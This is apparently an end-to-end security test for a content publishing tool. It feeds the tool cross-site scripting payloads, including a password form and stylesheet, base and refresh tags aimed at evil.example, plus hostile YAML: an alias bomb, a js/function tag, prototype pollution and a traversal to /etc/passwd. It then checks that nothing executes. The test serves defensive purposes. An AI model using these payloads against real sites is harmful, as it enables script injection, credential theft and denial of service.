import { execFile } from 'node:child_process';
import { cp, mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

import type { Cluster } from './support/cluster.ts';
import { expect, test } from './support/clusterJourney.ts';

const root = fileURLToPath(new URL('../..', import.meta.url));
const COMMAND = path.join(root, 'dist/server/command.js');
const LIMIT_MS = 600_000;
const RUNS = 'window.isRun=true';

/** Payloads for a paragraph of a page; a browser that treated one as more than text or a link would run it. */
const MARKDOWN = [
  `<script>${RUNS}</script>`,
  `<img src=x onerror="${RUNS}">`,
  `<svg/onload=${RUNS}>`,
  `<iframe srcdoc="<script>parent.${RUNS}</script>"></iframe>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><input name=password></form>`,
  `[a](javascript:${RUNS})`,
  `[b](JaVaScRiPt&colon;${RUNS})`,
  `[c](java\tscript:${RUNS})`,
  `[d](data:text/html,<script>${RUNS}</script>)`,
  `[e](vbscript:${RUNS})`,
  `<javascript:${RUNS}>`,
  `[f](/x "onmouseover=${RUNS}//" onclick=${RUNS})`,
  `[g](/"onmouseover=${RUNS}//)`,
  `![h](x" onerror="${RUNS})`,
  `![i](javascript:${RUNS})`,
  `![j](/example-newsletter/mail" onload="${RUNS})`,
  '[k][l]\n\n[l]: javascript:window.isRun=true',
  '`</code><script>window.isRun=true</script>`',
  '```html\n</code></pre><script>window.isRun=true</script>\n```',
  '## </h2><script>window.isRun=true</script>',
];
const NINE = 'abcdefghi';
/** Rejected files: each ends the command with a message and publishes nothing. */
const YAML: Record<string, string> = {
  'aliases that grow a thousand million times': `${[...NINE]
    .map((name, level) => {
      const before = NINE[level - 1];
      return `${name}: &${name} [${Array.from({ length: 9 }, () => (before ? `*${before}` : 'x')).join(', ')}]`;
    })
    .join('\n')}\n`,
  'an alias of itself': 'key: SHOP_FOOTER\nsite: DE\nbody: &a\n  teaserGroups: [*a]\n',
  'a function': 'key: SHOP_FOOTER\nbody: !!js/function "function(){ process.exit(0) }"\n',
  'a prototype':
    'key: SHOP_FOOTER\nsite: DE\n__proto__:\n  body: {}\nbody:\n  __proto__: { headline: x }\n',
  'lists in lists': `body: ${'['.repeat(5000)}${']'.repeat(5000)}\n`,
  'another file of the machine': 'changes: ../../../../../../etc/passwd\nbody: {}\n',
  itself: 'changes: hostile.yaml\nbody: {}\n',
  'the first half of a file':
    'key: SHOP_FOOTER\nsite: DE\nvalidFrom: 2020-01-01T00:00:00Z\nbody:\n  headline: "Gut',
};

test('nothing that a hostile editor writes runs in a shopper’s browser, and hostile files get a clear refusal', async ({
  page,
  start,
}) => {
  test.setTimeout(LIMIT_MS);
  const cluster = await start();
  const folder = path.join(cluster.mailFolder, 'editor');
  await mkdir(path.join(folder, 'pages/DE'), { recursive: true });
  const footer = await readFile(path.join(root, 'content/footers/DE/general.yaml'), 'utf8');

  for (const [name, text] of Object.entries(YAML)) {
    const file = path.join(folder, 'hostile.yaml');
    await writeFile(file, text);
    const { code, output } = await publish(cluster, file);
    expect(code, `${name}: ${output}`).toBe(1);
    expect(output, name).not.toMatch(/root:|\bat \S+:\d+|node_modules/);
  }
  const linked = path.join(folder, 'linked.yaml');
  await writeFile(linked, footer.replace('url: /payment', 'url: "javascript:window.isRun=true"'));
  expect((await publish(cluster, linked)).output).toContain('url');

  const hostile = path.join(folder, 'footer.yaml');
  const headline = `</script><script>${RUNS}</script><img src=x onerror=${RUNS}>`;
  await writeFile(
    hostile,
    footer
      .replace("'2020-01-01T00:00:00Z'", `'${new Date().toISOString()}'`)
      .replace('headline: Gut zu wissen', `headline: ${JSON.stringify(headline)}`),
  );
  expect(await publish(cluster, hostile)).toMatchObject({ code: 0 });
  const written = path.join(folder, 'pages/DE/privacy.md');
  await cp(path.join(root, 'content/pages/DE/privacy.md'), written);
  const [, facts = ''] = /^---\n(.*?)\n---\n/s.exec(await readFile(written, 'utf8')) ?? [];
  const titled = facts.replace(/^title: .*$/m, `title: Titel ${headline}`);
  await writeFile(written, `---\n${titled}\n---\n\n${MARKDOWN.join('\n\n')}\n`);
  expect(await publish(cluster, written)).toMatchObject({ code: 0 });
  for (const name of ['constructor', '__proto__', 'toString']) {
    await writeFile(written, `---\n${facts}\n---\n\n{company} {${name}}\n`);
    const { code, output } = await publish(cluster, written);
    expect([code, output]).toEqual([1, expect.stringContaining(`{${name}} stands for nothing`)]);
  }

  const foreign: string[] = [];
  const refused: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(cluster.url)) foreign.push(request.url());
  });
  page.on('dialog', (dialog) => foreign.push(dialog.message()));
  await page.exposeFunction('noteRefusal', (words: string) => void refused.push(words));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sample }) => {
      Reflect.get(window, 'noteRefusal')(`${effectiveDirective} ${sample}`);
    });
  });
  await expect
    .poll(async () => (await fetch(`${cluster.url}/de/privacy?${Date.now()}`)).text())
    .toContain('Titel');
  await page.goto(`${cluster.url}/de/privacy?hostile`);
  await expect(page.locator('h1')).toContainText(RUNS);
  await expect(page.locator('.footer')).toContainText('</script>');
  await page.mouse.move(40, 40);
  await page.waitForLoadState('networkidle');
  expect(
    await page.evaluate(() => ({
      isRun: Reflect.get(window, 'isRun'),
      handlers: [...document.querySelectorAll('main *, .footer *')].filter((element) =>
        element.getAttributeNames().some((name) => name.startsWith('on')),
      ).length,
      addresses: [...document.querySelectorAll('main [href], main [src], .footer [href]')]
        .map((element) => element.getAttribute('href') ?? element.getAttribute('src') ?? '')
        .filter((address) => /^\s*(?:java|data|vb)/i.test(address)),
      strangers: document.querySelectorAll('main :is(script, style, base, meta, svg[onload], form)')
        .length,
    })),
  ).toEqual({ isRun: undefined, handlers: 0, addresses: [], strangers: 0 });
  expect(foreign).toEqual([]);
  // The policy had nothing to stop.
  expect(refused).toEqual([]);
});

function publish(cluster: Cluster, file: string): Promise<{ code: number; output: string }> {
  return new Promise((resolve) => {
    const env = { ...process.env, ...cluster.env };
    execFile(
      process.execPath,
      [COMMAND, 'content', 'publish', file],
      { env, timeout: 120_000 },
      (error, stdout, stderr) => {
        const code = typeof error?.code === 'number' ? error.code : error ? -1 : 0;
        resolve({ code, output: stdout + stderr });
      },
    );
  });
}
